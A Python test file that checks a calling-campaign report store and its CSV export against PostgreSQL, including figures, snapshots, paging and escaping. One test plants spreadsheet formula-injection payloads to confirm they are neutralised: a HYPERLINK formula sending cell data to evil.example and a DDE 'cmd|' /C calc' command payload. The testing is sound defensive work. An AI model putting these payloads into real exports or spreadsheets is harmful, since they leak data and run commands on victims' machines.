"""
Tests for L{fts.db.reports.ReportStore} and the CSV export against a real
PostgreSQL, on the hand-computed campaign of L{tests.reports.fixture}.
"""

import csv
import io
from datetime import UTC, datetime

from twisted.internet import defer

from fts.db.reports import ArchiveIncomplete, ReportStore, UnknownCampaign
from fts.reports.export import BytesTarget, ExportTooLarge, export_csv, export_csv_bytes
from fts.reports.model import Row, SeriesRow
from tests.reports import fixture
from tests.support.db import DatabaseTestCase

FINAL_OUTCOMES = [
    Row("reached", "Reached (answered)", contacts=6),
    Row("opted_out", "Opted out", contacts=1),
    Row("busy", "Busy", contacts=1),
    Row("no_answer", "No answer", contacts=0),
    Row("failed", "Failed", contacts=0),
    Row("invalid_number", "Invalid number", contacts=1),
    Row("dnc_skipped", "Skipped: on a do-not-call list", contacts=1),
    Row("outside_hours_skipped", "Skipped: outside calling hours", contacts=0),
    Row("not_dialed", "Not dialed", contacts=1),
    Row("exhausted", "Attempts used up", contacts=1),
]

CALL_OUTCOMES = [
    Row("answered", "Answered", contacts=7, calls=8),
    Row("busy", "Busy", contacts=2, calls=3),
    Row("no_answer", "No answer", contacts=2, calls=4),
    Row("congestion", "Congestion", contacts=0, calls=0),
    Row("chanunavail", "Channel unavailable", contacts=0, calls=0),
    Row("invalid_number", "Invalid number", contacts=1, calls=1),
    Row("failed", "Failed (PBX error)", contacts=0, calls=0),
    Row("cancelled", "Cancelled by FTS", contacts=0, calls=0),
    Row("unknown", "Outcome lost", contacts=0, calls=0),
]

ATTEMPTS = [
    SeriesRow(1, "Attempt 1", 10, 6,
              [("answered", 6), ("busy", 2), ("no_answer", 1), ("invalid_number", 1)]),
    SeriesRow(2, "Attempt 2", 4, 1, [("answered", 1), ("busy", 1), ("no_answer", 2)]),
    SeriesRow(3, "Attempt 3", 2, 1, [("answered", 1), ("no_answer", 1)]),
]

BUSY_HOURS = {
    9: SeriesRow(9, "09:00-09:59", 6, 3,
                 [("answered", 3), ("busy", 1), ("no_answer", 1), ("invalid_number", 1)]),
    10: SeriesRow(10, "10:00-10:59", 5, 3, [("answered", 3), ("busy", 1), ("no_answer", 1)]),
    11: SeriesRow(11, "11:00-11:59", 1, 0, [("no_answer", 1)]),
    12: SeriesRow(12, "12:00-12:59", 1, 0, [("busy", 1)]),
    13: SeriesRow(13, "13:00-13:59", 1, 1, [("answered", 1)]),
    14: SeriesRow(14, "14:00-14:59", 2, 1, [("answered", 1), ("no_answer", 1)]),
}

FIGURES = [
    ("contacts", "Contacts in the campaign", 12, "contacts"),
    ("dialed", "Contacts dialed", 10, "contacts"),
    ("answered", "Contacts answered", 7, "contacts"),
    ("answered_by_person", "Contacts answered by a person (AMD human, not sure or off)", 6,
     "contacts"),
    ("answered_by_machine", "Contacts answered by a machine", 1, "contacts"),
    ("opted_out", "Contacts who opted out", 1, "contacts"),
    ("pressed_key", "Contacts who pressed a key", 5, "contacts"),
    ("heard_full_message", "Contacts who heard the whole message", 6, "contacts"),
    ("calls", "Calls (counted attempts)", 16, "calls"),
    ("calls_answered", "Calls answered", 8, "calls"),
    ("not_counted", "Originates not counted as attempts (refused or lost)", 1, "calls"),
    ("answer_rate", "Answer rate (contacts answered / contacts dialed)", 70.0, "percent"),
    ("call_answer_rate", "Call answer rate (calls answered / calls ended)", 50.0, "percent"),
    ("opt_out_rate", "Opt-out rate (contacts who opted out / contacts answered)", 14.3,
     "percent"),
    ("average_talk_seconds", "Average talk time per contact answered", 35.3, "seconds"),
    ("talk_seconds", "Total talk time", 247, "seconds"),
]


def assert_numbers(test, report, kind):
    """
    Check every number of the fixture's report, hand-computed (see the
    fixture's table), with the assertions of C{test}.
    """
    test.assertEqual(
        (report.campaign_id, report.campaign_name, report.kind, report.timezone),
        (test.campaign, "Payment reminders", kind, "Europe/Paris"))
    c = report.contacts
    test.assertEqual(
        (c.contacts, c.dialed, c.answered, c.human, c.machine, c.notsure, c.amd_off,
         c.answered_by_person, c.opted_out, c.pressed_key, c.heard_full_message,
         c.talk_seconds, c.not_final),
        (12, 10, 7, 5, 1, 1, 0, 6, 1, 5, 6, 247, 0))
    k = report.calls
    test.assertEqual(
        (k.calls, k.answered, k.machine, k.talk_seconds, k.in_progress, k.not_counted),
        (16, 8, 2, 247, 0, 1))
    finals = FINAL_OUTCOMES + ([
        Row("pending", "Not final yet: waiting to be dialed", contacts=0),
        Row("in_flight", "Not final yet: in a call now", contacts=0),
    ] if kind == "live" else [])
    test.assertEqual(list(report.final_outcomes), finals)
    test.assertEqual(list(report.amd), [
        Row("human", "Human", contacts=5, calls=5),
        Row("machine", "Answering machine", contacts=1, calls=2),
        Row("notsure", "Not sure", contacts=1, calls=1),
        Row("off", "Not detected (AMD off)", contacts=0, calls=0),
    ])
    test.assertEqual(list(report.options), [
        Row("1", "Confirm payment", contacts=3, calls=3),
        Row("2", "Talk to an agent", contacts=1, calls=1),
        Row("9", "Stop calls", contacts=1, calls=1),
    ])
    outcomes = CALL_OUTCOMES + (
        [Row("in_progress", "In progress", contacts=0, calls=0)] if kind == "live" else [])
    test.assertEqual(list(report.call_outcomes), outcomes)
    test.assertEqual(list(report.failure_reasons), CALL_OUTCOMES[1:])
    test.assertEqual(list(report.dnc_lists), [Row("opt-outs", "opt-outs", contacts=1)])
    test.assertEqual(list(report.attempts_used), [
        Row("0", "Never dialed", contacts=2),
        Row("1", "1 attempt", contacts=6),
        Row("2", "2 attempts", contacts=2),
        Row("3", "3 attempts", contacts=2),
    ])
    test.assertEqual(list(report.attempts), ATTEMPTS)
    test.assertEqual(
        list(report.hours),
        [BUSY_HOURS.get(h, SeriesRow(h, f"{h:02d}:00-{h:02d}:59", 0, 0, []))
         for h in range(24)])
    expected = [f for f in FIGURES]
    if kind == "live":
        expected.insert(8, ("not_final", "Contacts not final yet", 0, "contacts"))
    test.assertEqual([(f.key, f.label, f.value, f.unit) for f in report.figures()],
                     expected)
    test.assertEqual(report.csv_layout.header,
                     ("first_name", "Phone", "amount", "due", "note", "phone_normalized",
                      "final_outcome", "attempts", "keys", "option", "amd",
                      "talk_seconds", "heard_full_message", "last_call_at", "dnc_list"))


class ReportStoreTests(DatabaseTestCase):

    @defer.inlineCallbacks
    def setUp(self):
        yield super().setUp()
        yield self.pool.runOperation(fixture.setup_sql())
        [(self.campaign,)] = yield self.pool.runQuery(
            "SELECT id FROM campaigns WHERE name = 'Payment reminders'")
        self.reports = ReportStore(self.pool)

    def finalize(self):
        return self.pool.runOperation(fixture.archive_sql())

    def assertNumbers(self, report, kind):
        assert_numbers(self, report, kind)

    @defer.inlineCallbacks
    def test_live_report_numbers(self):
        """The live report of the finished campaign has every hand-computed number."""
        report = yield self.reports.live(self.campaign)
        self.assertNumbers(report, "live")
        self.assertEqual((report.state, report.finish_reason), ("finished", "completed"))
        self.assertIsInstance(report.built_at, datetime)

    @defer.inlineCallbacks
    def test_final_report_numbers(self):
        """The final report, read from the archive and the calls, has the same numbers."""
        yield self.finalize()
        snapshot = yield self.reports.build_final(self.campaign)
        self.assertEqual((snapshot.campaign_id, snapshot.kind), (self.campaign, "final"))
        self.assertNumbers(snapshot.report, "final")
        self.assertEqual(snapshot.built_at, snapshot.report.built_at)

    @defer.inlineCallbacks
    def test_final_snapshot_outlives_the_purge(self):
        """The stored snapshot reads back equal after the working rows are purged."""
        yield self.finalize()
        built = yield self.reports.build_final(self.campaign)
        yield self.pool.runOperation(fixture.PURGE_SQL)
        stored = yield self.reports.snapshot(self.campaign)
        self.assertEqual(stored, built)
        current = yield self.reports.current(self.campaign)
        self.assertEqual(current, built.report)

    @defer.inlineCallbacks
    def test_build_final_idempotent(self):
        """A second build_final, even after the purge, returns the stored snapshot."""
        yield self.finalize()
        first = yield self.reports.build_final(self.campaign)
        yield self.pool.runOperation(fixture.PURGE_SQL)
        second = yield self.reports.build_final(self.campaign)
        self.assertEqual(second, first)
        [(count,)] = yield self.pool.runQuery(
            "SELECT count(*) FROM report_snapshots WHERE campaign_id = %s", (self.campaign,))
        self.assertEqual(count, 1)

    @defer.inlineCallbacks
    def test_concurrent_build_final_stores_one(self):
        """Two build_final at once store one snapshot and both return it."""
        yield self.finalize()
        first, second = yield defer.gatherResults([
            self.reports.build_final(self.campaign), self.reports.build_final(self.campaign)])
        self.assertEqual(first.id, second.id)

    @defer.inlineCallbacks
    def test_build_final_refuses_incomplete_archive(self):
        """build_final fails, storing nothing, while working rows are not archived."""
        yield self.finalize()
        yield self.pool.runOperation(
            "DELETE FROM campaign_contacts_archive WHERE phone = '33600000012'")
        yield self.assertFailure(self.reports.build_final(self.campaign), ArchiveIncomplete)
        stored = yield self.reports.snapshot(self.campaign)
        self.assertIsNone(stored)

    @defer.inlineCallbacks
    def test_unknown_campaign(self):
        """Reports and exports of a campaign that does not exist fail with UnknownCampaign."""
        yield self.assertFailure(self.reports.live(999999), UnknownCampaign)
        yield self.assertFailure(self.reports.build_final(999999), UnknownCampaign)
        yield self.assertFailure(export_csv(self.reports, 999999, BytesTarget()),
                                 UnknownCampaign)

    @defer.inlineCallbacks
    def test_live_not_final_contacts(self):
        """A live report counts pending and in-flight contacts and calls in progress."""
        yield self.pool.runOperation(
            "UPDATE campaign_contacts SET status = 'pending', final_outcome = NULL,"
            " next_attempt_at = now() WHERE contact_id ="
            " (SELECT id FROM contacts WHERE phone = '33600000009');"
            "UPDATE campaign_contacts SET status = 'in_flight', final_outcome = NULL,"
            " in_flight_call_id = 1010 WHERE contact_id ="
            " (SELECT id FROM contacts WHERE phone = '33600000006');"
            "UPDATE calls SET outcome = NULL, ended_at = NULL WHERE id = 1010")
        report = yield self.reports.live(self.campaign)
        rows = {row.key: row.contacts for row in report.final_outcomes}
        self.assertEqual((rows["pending"], rows["in_flight"], rows["exhausted"],
                          rows["not_dialed"], report.contacts.not_final),
                         (1, 1, 0, 0, 2))
        self.assertEqual((report.calls.calls, report.calls.in_progress), (16, 1))
        self.assertEqual(report.call_outcomes[-1],
                         Row("in_progress", "In progress", contacts=1, calls=1))
        self.assertEqual(report.call_answer_rate, 8 / 15)
        csv_bytes, _ = yield export_csv_bytes(self.reports, self.campaign)
        self.assertIn('"Farid","06 00 00 00 06","15","2026-02-11","",33600000006,in_flight,3,'
                      ',,,0,no,2026-01-12 14:30:01,""\r\n'.encode(), csv_bytes)
        self.assertIn('"Inès","06 00 00 00 09","9","2026-02-17","",33600000009,pending,0,,,,0,'
                      'no,,""\r\n'.encode(), csv_bytes)

    @defer.inlineCallbacks
    def test_record_live_keeps_the_newest(self):
        """record_live stores a live snapshot and keeps only the newest ones."""
        for _ in range(4):
            latest = yield self.reports.record_live(self.campaign, keep=2)
        rows = yield self.pool.runQuery(
            "SELECT id FROM report_snapshots WHERE campaign_id = %s AND kind = 'live'"
            " ORDER BY id", (self.campaign,))
        self.assertEqual(len(rows), 2)
        self.assertEqual(rows[-1][0], latest.id)
        stored = yield self.reports.snapshot(self.campaign, "live")
        self.assertEqual(stored, latest)
        self.assertNumbers(stored.report, "live")

    @defer.inlineCallbacks
    def test_fixture_settings_readable(self):
        """
        The fixture's campaign reads back through the campaign store (its
        settings are what the wizard saves: option 9 opts out).
        """
        from twisted.internet.task import Clock

        from fts.core.campaign import Action
        from fts.db.campaigns import CampaignStore

        campaign = yield CampaignStore(self.pool, Clock()).get(self.campaign)
        self.assertEqual(campaign.name, "Payment reminders")
        self.assertEqual([(o.key, o.action) for o in campaign.settings.menu.options],
                         [("1", Action.RECORD), ("2", Action.DIAL), ("9", Action.OPTOUT)])

    @defer.inlineCallbacks
    def test_csv_file_recorded(self):
        """set_csv_file records the CSV written for a snapshot."""
        yield self.finalize()
        built = yield self.reports.build_final(self.campaign)
        yield self.reports.set_csv_file(built.id, "reports/campaign-1.csv", 1234, 12)
        stored = yield self.reports.snapshot(self.campaign)
        self.assertEqual((stored.csv_path, stored.csv_bytes, stored.csv_rows),
                         ("reports/campaign-1.csv", 1234, 12))


class WithFinalizationTests(DatabaseTestCase):
    """
    The fixture archived by the real finalization SQL (L{fts.db.finalization})
    rather than by the fixture's own rows: the final report and the CSV agree.
    """

    @defer.inlineCallbacks
    def setUp(self):
        yield super().setUp()
        yield self.pool.runOperation(fixture.setup_sql())
        [(self.campaign,)] = yield self.pool.runQuery(
            "SELECT id FROM campaigns WHERE name = 'Payment reminders'")
        self.reports = ReportStore(self.pool)

    @defer.inlineCallbacks
    def test_finalization_archive(self):
        """Archived by finalization, the report has the hand-computed numbers and CSV."""
        from fts.db.finalization import FinalizationStore

        finalization = FinalizationStore(self.pool)
        yield self.pool.runOperation(
            "UPDATE campaigns SET state = 'finalizing' WHERE id = %s", (self.campaign,))
        yield finalization.progress(self.campaign, wait_deadline=datetime.now(UTC))
        progress = yield finalization.prepare_archive(self.campaign, [])
        archived = yield finalization.archive_chunk(
            self.campaign, progress.first_row_id, progress.last_row_id + 1)
        self.assertEqual(archived, 12)
        snapshot = yield self.reports.build_final(self.campaign)
        assert_numbers(self, snapshot.report, "final")
        data, _ = yield export_csv_bytes(self.reports, self.campaign)
        self.assertEqual(data, fixture.EXPECTED_CSV)


class CsvExportTests(DatabaseTestCase):

    @defer.inlineCallbacks
    def setUp(self):
        yield super().setUp()
        yield self.pool.runOperation(fixture.setup_sql())
        [(self.campaign,)] = yield self.pool.runQuery(
            "SELECT id FROM campaigns WHERE name = 'Payment reminders'")
        self.reports = ReportStore(self.pool)

    @defer.inlineCallbacks
    def export(self, page_size=None):
        data, result = yield export_csv_bytes(self.reports, self.campaign, page_size=page_size)
        self.assertEqual((result.rows, result.bytes), (12, len(data)))
        return data

    @defer.inlineCallbacks
    def test_live_csv_bytes(self):
        """The live CSV of the finished campaign is exactly the expected bytes."""
        data = yield self.export()
        self.assertEqual(data, fixture.EXPECTED_CSV)

    @defer.inlineCallbacks
    def test_final_csv_bytes(self):
        """The CSV read from the archive is byte for byte the same."""
        yield self.pool.runOperation(fixture.archive_sql())
        yield self.reports.build_final(self.campaign)
        data = yield self.export()
        self.assertEqual(data, fixture.EXPECTED_CSV)

    @defer.inlineCallbacks
    def test_csv_after_purge_and_list_deleted(self):
        """After the purge and the deletion of the list the CSV keeps its real column names."""
        yield self.pool.runOperation(fixture.archive_sql())
        yield self.reports.build_final(self.campaign)
        yield self.pool.runOperation(fixture.PURGE_SQL)
        yield self.pool.runOperation("DELETE FROM contact_lists")
        data = yield self.export()
        self.assertEqual(data, fixture.EXPECTED_CSV)

    @defer.inlineCallbacks
    def test_small_pages(self):
        """Pages of 5 (and of 1) contacts give the same bytes as one page."""
        for size in (5, 1, 12):
            data = yield self.export(page_size=size)
            self.assertEqual(data, fixture.EXPECTED_CSV)
        yield self.pool.runOperation(fixture.archive_sql())
        yield self.reports.build_final(self.campaign)
        data = yield self.export(page_size=5)
        self.assertEqual(data, fixture.EXPECTED_CSV)

    @defer.inlineCallbacks
    def test_tricky_values_read_back(self):
        """Quotes, commas, line breaks, non-ASCII and formula-like values parse back as stored."""
        values = ['a"b', '"', 'x\r\ny', ',', '=1+2', 'é 漢字 🙂', "'", ' padded ', '\\',
                  'end\n', '""', '']
        for (name, phone, *_), value in zip(fixture.CONTACTS, values):
            yield self.pool.runOperation(
                "UPDATE contacts SET fields = jsonb_set(fields, '{note}', to_jsonb(%s::text)),"
                " phone_original = %s WHERE phone = %s", (value, value + phone, phone))
        data = yield self.export(page_size=5)
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
        self.assertEqual(len(rows), 13)
        # '=1+2' starts a formula: written with a quote before it (see
        # fts.reports.export); every other value comes back as stored.

        def shown(text):
            return "'" + text if text.startswith("=") else text

        self.assertEqual([(row[1], row[4]) for row in rows[1:]],
                         [(shown(value + c[1]), shown(value))
                          for c, value in zip(fixture.CONTACTS, values)])

    @defer.inlineCallbacks
    def test_formulas_neutralised(self):
        """
        List values and a DNC list name that a spreadsheet would run as a
        formula get a single quote before them, in the live and the final
        CSV alike; phone numbers with a leading + and negative numbers are
        left alone.
        """
        payload = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
        changes = [("33600000001", payload, "+33 6 00 00 00 01"),
                   ("33600000002", "@SUM(1+1)*cmd|' /C calc'!A0", "-1"),
                   ("33600000003", "-2+3", "+33 (6) 00.00-00-03"),
                   ("33600000004", "\tTAB", "+1+cmd|x")]
        for phone, note, uploaded in changes:
            yield self.pool.runOperation(
                "UPDATE contacts SET fields = jsonb_set(fields, '{note}', to_jsonb(%s::text)),"
                " phone_original = %s WHERE phone = %s", (note, uploaded, phone))
        yield self.pool.runOperation("UPDATE dnc_lists SET name = '+cmd' WHERE builtin")
        live = yield self.export(page_size=5)
        lines = live.decode("utf-8").split("\r\n")
        self.assertEqual(
            lines[1],
            '"Alice","+33 6 00 00 00 01","12.5","2026-02-01",'
            '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",33600000001,reached,1,1,1,'
            'human,42,yes,2026-01-12 09:05:01,""')
        rows = list(csv.reader(io.StringIO(live.decode("utf-8"), newline="")))
        self.assertEqual([(row[1], row[4]) for row in rows[1:5]],
                         [("+33 6 00 00 00 01", "'" + payload),
                          ("-1", "'@SUM(1+1)*cmd|' /C calc'!A0"),
                          ("+33 (6) 00.00-00-03", "'-2+3"),
                          ("'+1+cmd|x", "'\tTAB")])
        self.assertEqual(rows[8][-1], "'+cmd")  # Hugo, skipped on the opt-outs list
        yield self.pool.runOperation(fixture.archive_sql())
        yield self.reports.build_final(self.campaign)
        final = yield self.export(page_size=5)
        self.assertEqual(final, live)

    @defer.inlineCallbacks
    def test_too_large(self):
        """A bounded export stops with ExportTooLarge past its limit."""
        yield self.assertFailure(
            export_csv_bytes(self.reports, self.campaign, limit=300, page_size=2),
            ExportTooLarge)

    @defer.inlineCallbacks
    def test_paused_consumer(self):
        """A consumer that pauses gets nothing more until it resumes, then everything."""
        target = PausingTarget()
        d = export_csv(self.reports, self.campaign, target, page_size=5)
        while not target.paused:
            yield _turn()
        size = target.size
        for _ in range(10):
            yield _turn()
        self.assertEqual(target.size, size)
        self.assertNoResult(d)
        target.producer.resumeProducing()
        result = yield d
        self.assertEqual(target.value(), fixture.EXPECTED_CSV)
        self.assertEqual(result.rows, 12)


class PausingTarget(BytesTarget):
    """
    Pauses its producer once, after the first page of rows.
    """

    paused = False

    def write(self, data):
        super().write(data)
        if len(self.chunks) == 2 and not self.paused:
            self.paused = True
            self.producer.pauseProducing()


def _turn():
    """
    A Deferred firing on the next reactor turn (lets database round trips
    complete).
    """
    from twisted.internet import reactor, task

    return task.deferLater(reactor, 0.01, lambda: None)
